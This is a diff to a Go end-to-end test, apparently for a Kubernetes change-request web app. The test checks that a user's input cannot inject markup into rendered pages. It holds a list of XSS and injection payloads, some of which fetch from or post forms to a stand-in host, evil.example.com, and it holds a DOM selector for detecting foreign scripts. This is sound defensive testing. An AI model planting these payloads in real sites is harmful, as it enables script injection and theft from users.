@@ -15,23 +15,29 @@ import (
 	. "github.com/onsi/ginkgo/v2"
 	. "github.com/onsi/gomega"
 	apierrors "k8s.io/apimachinery/pkg/api/errors"
-	"sigs.k8s.io/controller-runtime/pkg/client"
 
 	"github.com/lapse-dev/lapse/test/hostile"
 	"github.com/lapse-dev/lapse/test/operator"
 )
 
+// markup is what would run, or lead elsewhere, if it were a part of a page.
+var markup = []string{
+	`<script>fetch("https://evil.example.com")</script>`, `"><img src=x onerror=alert(1)>`, `'><svg/onload=alert(1)>`,
+	`javascript:alert(1)`, `</section></main><form action="https://evil.example.com"><input name=a>`,
+	`<meta http-equiv=refresh content="0;url=https://evil.example.com">`, `<style>@import "https://evil.example.com"</style>`,
+	`<link rel=stylesheet href=https://evil.example.com>`, `<base href=https://evil.example.com>`, `{{7*7}}${7*7}`,
+}
+
+// foreign counts what a page has that runs or loads something; its own script is one.
+const foreign = `document.querySelectorAll("script, img, svg, iframe, object, embed, base, style, [onerror], [onload]").length`
+
+func hostileReasons() []string { return slices.Concat(markup, hostile.Strings(GinkgoTB())) }
+
 var _ = Describe("Whoever attacks the page", func() {
 	It("has nothing run by what he writes, and asks no stranger by it", func(ctx SpecContext) {
 		mallory := operator.NewUser(GinkgoTB(), plane, "mallory", "oncall")
-		written := []string{
-			`<script>fetch("https://evil.example.com")</script>`, `"><img src=x onerror=alert(1)>`, `'><svg/onload=alert(1)>`,
-			`javascript:alert(1)`, `</section></main><form action="https://evil.example.com"><input name=a>`,
-			`<meta http-equiv=refresh content="0;url=https://evil.example.com">`, `<style>@import "https://evil.example.com"</style>`,
-			`<link rel=stylesheet href=https://evil.example.com>`, `<base href=https://evil.example.com>`, `{{7*7}}${7*7}`,
-		}
 		taken := 0
-		for i, s := range append(written, hostile.Strings(GinkgoTB())...) {
+		for i, s := range hostileReasons() {
 			if taken == 60 {
 				break
 			}
@@ -42,13 +48,12 @@ var _ = Describe("Whoever attacks the page", func() {
 				Expect(apierrors.IsInvalid(err)).To(BeTrue(), "%q: %v", s, err)
 			}
 		}
-		Expect(taken).To(BeNumerically(">=", len(written)))
+		Expect(taken).To(BeNumerically(">=", len(markup)))
 		bob := enrol("bob", "sre-leads").browses()
 		for _, page := range []string{"for-me", "now", "now?page=2", "story?namespace=payments&name=hostile-0", `now?person="><script>alert(1)</script>`} {
 			bob.open(page)
 			bob.reads("Lapse on lapse, as bob")
-			Expect(value[int](bob, `document.querySelectorAll("script, img, svg, iframe, object, embed, base, style, [onerror], [onload]").length`)).
-				To(Equal(1), "%s has its own script, and nothing else", page)
+			Expect(value[int](bob, foreign)).To(Equal(1), "%s has its own script, and nothing else", page)
 			Expect(value[[]string](bob, `[...document.querySelectorAll("form")].map(f => new URL(f.action).origin).filter(o => o !== location.origin)`)).To(BeEmpty())
 		}
 	}, SpecTimeout(3*time.Minute))
@@ -93,41 +98,4 @@ var _ = Describe("Whoever attacks the page", func() {
 		first.run(chromedp.Navigate(strings.Replace(at, "127.0.0.1", "localhost", 1)))
 		Expect(first.text()).NotTo(ContainSubstring("as bob"))
 	}, SpecTimeout(time.Minute))
-
-	It("does not slow it down with 5000 requests", func(ctx SpecContext) {
-		Expect(manager.Stop()).To(Succeed()) // so that all of them stay in lists
-		defer grants(ctx)
-		root := operator.NewUser(GinkgoTB(), plane, "crowd", "oncall", "system:masters")
-		many(ctx, root, 5000)
-		bob := enrol("bob", "sre-leads").browses()
-		bob.open("now")
-		bob.reads("1 to 50 of 50")
-		took := make([]float64, 0, 10)
-		for range 10 {
-			bob.open("now")
-			took = append(took, value[float64](bob, "performance.getEntriesByType('navigation')[0].loadEventEnd"))
-		}
-		AddReportEntry("a list of 5000", fmt.Sprintf("there after %.0f ms", took))
-		slices.Sort(took)
-		Expect(took[len(took)/2]).To(BeNumerically("<", 300), "milliseconds, of the middle one")
-	}, SpecTimeout(5*time.Minute))
 })
-
-// many requests are made at once.
-func many(ctx SpecContext, as client.Client, n int) {
-	GinkgoHelper()
-	const workers = 16
-	errs := make(chan error, workers)
-	for w := range workers {
-		go func() {
-			var err error
-			for i := w; i < n && err == nil; i += workers {
-				err = as.Create(ctx, request(fmt.Sprint("one-of-many-", i), "admin", "CHG-86: one of many"))
-			}
-			errs <- err
-		}()
-	}
-	for range workers {
-		Expect(<-errs).To(Succeed())
-	}
-}
